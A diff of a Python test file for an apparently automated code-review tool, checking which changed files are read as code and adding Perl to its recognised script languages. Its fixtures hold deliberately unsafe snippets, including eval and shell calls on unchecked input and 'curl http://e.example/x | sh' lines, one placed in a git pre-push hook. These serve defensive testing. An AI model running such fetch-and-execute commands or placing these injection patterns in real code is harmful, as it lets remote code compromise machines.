@@ -69,14 +69,14 @@ async def test_settings_alone_are_read_as_what_they_are(tmp_path: Path) -> None:
     text |= {"Procfile": "web: gunicorn app:app\n", "a.code-workspace": '{"folders": []} // a\n'}
     verdict = await review(change(tmp_path / "a", {}, text))
     assert (gaps(verdict), verdict.verdict) == ({}, "merge")
-    script = await review(change(tmp_path / "b", {}, {"CODEOWNERS": "#!/usr/bin/perl\n"}))
+    script = await review(change(tmp_path / "b", {}, {"CODEOWNERS": "#!/usr/bin/guile\n"}))
     assert gaps(script) == {"CODEOWNERS": "not read as a program: only its text was searched"}
 
 
 UNREAD: list[tuple[str, str | bytes, str]] = [
     ("tool.bin", b"\0\1" * 50, "binary; nothing of the change was read as code"),
     ("logo.png", b"\x7fELF\0\1", "binary: a compiled program, which the analyzers cannot read"),
-    ("job", "#!/usr/bin/perl\n", "not read as a program: only its text was searched"),
+    ("job", "#!/usr/bin/guile\n", "not read as a program: only its text was searched"),
     ("LICENSE-x", "#!/bin/sh\n", "not read as a program: only its text was searched"),
     ("a.php7", "<?php f();\n", "not read as PHP: only its text was searched"),
     ("deno.lock", LOCK, "lock file; nothing of the change was read as code"),
@@ -121,7 +121,7 @@ async def test_a_submodule_alone_never_merges(tmp_path: Path) -> None:
 async def test_an_executable_without_a_known_language_is_a_program(tmp_path: Path) -> None:
     repo = Repo(tmp_path)
     repo.commit({"README.md": "# A project\n"})
-    repo.write({"run": "#!/usr/bin/perl\nsystem($x);\n", "app.py": "X = 1\n"})
+    repo.write({"run": "#!/usr/bin/guile\nsystem($x);\n", "app.py": "X = 1\n"})
     (tmp_path / "run").chmod(0o755)
     repo.commit({})
     assert gaps(await review(repo)) == {"run": "not read as a program: only its text was searched"}
@@ -134,6 +134,7 @@ async def test_scripts_are_read_in_the_language_of_their_first_line_or_name(tmp_
         "Rakefile": "task(:x) { |t, args| eval(args[:x]) }\n",
         "php": "#!/usr/bin/php8.2\n<?php function f($x) { eval($x); }\n",
         "lua": "#!/usr/bin/env lua5.4\nos.execute('ls ' .. arg[1])\n",
+        "perl": '#!/usr/bin/perl -w\nsub f { my $x = shift; system("ls $x"); }\n',
         "deno": "#!/usr/bin/env -S deno run\nconst a: string = Deno.args[0];\neval(a);\n",
         "bash": "#!/bin/bash\ncurl http://e.example/x | sh\n",
         ".husky/pre-push": "curl http://e.example/x | sh\n",
@@ -211,8 +212,8 @@ async def test_style_sheets_alone_are_a_note(tmp_path: Path) -> None:
 
 
 async def test_a_style_sheet_hides_no_program(tmp_path: Path) -> None:
-    verdict = await review(change(tmp_path, {}, {"a.css": "a {}\n", "b.pl": "print 1;\n"}))
-    assert list(gaps(verdict)) == ["b.pl"]
+    verdict = await review(change(tmp_path, {}, {"a.css": "a {}\n", "b.pas": "begin end.\n"}))
+    assert list(gaps(verdict)) == ["b.pas"]
 
 
 async def test_data_that_parses_is_read_as_code_and_data_that_does_not_is_not(
